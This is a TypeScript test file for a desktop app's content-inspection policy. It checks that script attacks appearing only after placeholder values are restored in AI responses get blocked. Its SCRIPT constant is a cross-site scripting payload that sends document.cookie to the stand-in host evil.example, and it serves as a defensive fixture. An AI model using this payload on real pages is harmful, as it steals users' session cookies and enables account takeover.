import assert from 'node:assert/strict';
import { test } from 'node:test';
import { compilePolicy } from '../../../apps/desktop/src/inspect/compile-policy.ts';
import { decideRestored } from '../../../apps/desktop/src/inspect/restore-response.ts';
import { testPolicy } from '../../support/desktop/test-stack.ts';

const policies = [
  { id: 'p', action: 'block', threatTypes: ['pii_leak', 'secret_leak', 'malicious_script'] },
] as const;
const compiled = compilePolicy(
  testPolicy({ ruleset: { useCase: 'default', strictness: 'strict', policies } }),
);
const request = { compiled, host: 'api.openai.com', path: '/v1/chat/completions', method: 'POST' };
const SCRIPT = '<script>fetch("https://evil.example/?c=" + document.cookie)</script>';
const decide = (sent: string, restored: string): string => {
  const slotsOf = (text: string) => [{ path: '/a', role: 'assistant' as const, text }];
  return decideRestored(request, { sent: slotsOf(sent), restored: slotsOf(restored) }, 0).verdict.decision;
};

test('an attack that appears only with the values restored blocks; the values alone do not', () => {
  assert.equal(decide('Dear [NAME_ABCDEFGH], hello.', `Dear ${SCRIPT}, hello.`), 'block');
  assert.equal(decide('Dear [EMAIL_ABCDEFGH], hello.', 'Dear anna.svensson@example.com, hello.'), 'allow');
  assert.equal(decide(`[NAME_ABCDEFGH] ${SCRIPT}`, `Anna ${SCRIPT}`), 'allow', 'evaluated as sent');
});
